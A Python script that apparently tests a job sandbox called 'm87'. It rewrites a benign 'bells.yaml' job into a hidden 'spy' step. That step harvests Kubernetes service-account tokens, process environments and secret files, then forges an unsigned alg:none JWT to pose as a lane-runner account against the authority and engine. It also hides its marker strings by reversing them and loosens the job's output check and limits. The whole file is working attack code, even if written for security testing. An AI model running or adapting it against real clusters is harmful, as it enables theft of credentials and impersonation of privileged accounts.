#!/usr/bin/env python3
"""Prints bells.yaml with another tool in it, which looks for tokens in its container and asks the authority without one.

    spy.py BELLS.YAML OUTPUT ARTIFACT CA.PEM NAMESPACE

It prints OUTPUT before it takes its time. In its artifact are ARTIFACT and what it found:

    mounted: LINE      of its mounts, as the kernel has them
    named: PATH        what has the name of a token, a ServiceAccount or secrets, in the whole file system
    files: N           how many files it went through
    as a lane: LINE    what m87 worker says, of the authority and the engine of NAMESPACE, with a token that it wrote itself
    as exec: LINE      what m87 exec says there, with the same, and with a shim of its own
"""
import base64, sys

path, output, artifact, ca, home = sys.argv[1:]
text = open(path).read()
# Backwards, so that they are in no object: the tool itself turns them round.
output, artifact = output[::-1], artifact[::-1]
# Everybody may know it, so the tool is given it.
ca = base64.b64encode(open(ca, "rb").read()).decode()

SPY = f'''
              {{
                echo {artifact} | rev
                ls -la / /m87 /m87/* /var/run /var/run/secrets /run 2>&1
                for file in /var/run/secrets/m87.dev/token /var/run/secrets/kubernetes.io/serviceaccount/token /var/run/secrets/*/* /m87/*/token; do cat "$file" 2>&1; done
                for process in /proc/[0-9]*; do echo "$process $(tr '\\0' ' ' < $process/cmdline 2>&1)"; tr '\\0' '\\n' < $process/environ 2>&1; ls -l $process/root/ $process/fd 2>&1; cat $process/root/var/run/secrets/m87.dev/token 2>&1; done
                grep -rl eyJ /m87 /tmp /var /run 2>/dev/null | head
                sed 's/^/mounted: /' /proc/self/mountinfo
                everything() {{ find / \\( -path /proc -o -path /sys \\) -prune -o "$@" -print 2>/dev/null; }}
                everything \\( -name token -o -name serviceaccount -o -name secrets \\) | sed 's/^/named: /'
                echo "files: $(everything | wc -l)"
                echo {ca} | base64 -d > ca.pem
                part() {{ printf %s "$1" | base64 | tr -d '=\\n' | tr /+ _-; }}
                echo "$(part '{{"alg":"none","typ":"JWT"}}').$(part '{{"sub":"system:serviceaccount:{home}:m87-lane-runner","aud":["m87.dev"]}}')." > forged
                timeout -k 3 8 /m87/bin/m87 worker --lane runner --engine m87.{home}.svc:26500 \\
                  --authority m87.{home}.svc:8443 --ca-file ca.pem --token-file forged 2>&1 | sed 's/^/as a lane: /'
                mkdir own own/work
                /m87/bin/m87 shim --connect own/socket --work own/work > own/log 2>&1 &
                M87_AUTHORITY_CA=$(cat ca.pem) timeout -k 3 15 /m87/bin/m87 exec --listen own/socket --peer "$(id -u)" --start-limit 10 --contract any \\
                  --authority m87.{home}.svc:8443 --token-file forged 2>&1 | sed 's/^/as exec: /'
              }} > "$M87_OUTPUT/ring.txt" || true
'''


def replace(old, new):
    global text
    assert text.count(old) == 1, f"bells.yaml has {old!r} {text.count(old)} times"
    text = text.replace(old, new)


text = text.replace("metadata: {name: slow}", "metadata: {name: spy}")
replace('              echo "$bell rang" > "$M87_OUTPUT/ring.txt"\n', SPY.lstrip("\n"))
replace('              sleep "$seconds"\n', f'              echo {output} | rev\n              sleep "$seconds"\n')
replace('[ "$(cat "$M87_ARTIFACT")" = "$bell rang" ]', '[ -s "$M87_ARTIFACT" ]')
# m87's own program takes more room than a bell, and this more time.
replace("limits: {seconds: 40, cpuSeconds: 10, memoryBytes: 268435456,", "limits: {seconds: 60, cpuSeconds: 30, memoryBytes: 4294967296,")
print(text)
